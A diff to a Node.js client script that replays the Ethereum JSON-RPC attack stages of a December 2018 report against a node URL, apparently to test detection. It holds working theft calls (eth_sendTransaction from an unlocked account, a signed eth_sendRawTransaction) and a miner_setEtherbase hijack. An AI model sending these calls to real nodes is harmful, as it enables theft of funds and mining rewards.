@@ -1,8 +1,9 @@
 // The Ethereum JSON-RPC stages of the December 2018 report, sent by a real client library
 // (ethers 6, from npm): account discovery, unlocking, theft, miner hijack, and a batch of
-// recon calls (ethers joins requests made within a few milliseconds into one JSON array).
+// recon calls (ethers joins requests made within a few milliseconds into one JSON array),
+// and a transaction signed by the client's own key (EIP-1559) sent with eth_sendRawTransaction.
 // usage: NODE_PATH=DIR/node_modules node jsonrpc-client.cjs http://ADDRESS:8545
-const { JsonRpcProvider, Network } = require("ethers");
+const { JsonRpcProvider, Network, Wallet } = require("ethers");
 
 async function main() {
   const url = process.argv[2];
@@ -29,6 +30,14 @@ async function main() {
   }
   // Theft from an unlocked account.
   await single.send("eth_sendTransaction", [{ from: victim, to: thief, value: "0x1bc16d674ec80000" }]);
+  // Theft signed by the client: the recipient is inside the RLP. Sent with send(), as a
+  // script does: broadcastTransaction() would refuse a hash that is not the transaction's.
+  const key = new Wallet("0x" + "11".repeat(32));
+  const signed = await key.signTransaction({
+    type: 2, chainId: 1, nonce: 0, to: "0x" + "ef".repeat(20), value: 1000000000000000000n,
+    gasLimit: 21000, maxFeePerGas: 30000000000n, maxPriorityFeePerGas: 1000000000n,
+  });
+  await single.send("eth_sendRawTransaction", [signed]);
   // Miner hijack.
   await single.send("personal_newAccount", ["hijack"]);
   await single.send("miner_setEtherbase", [thief]);
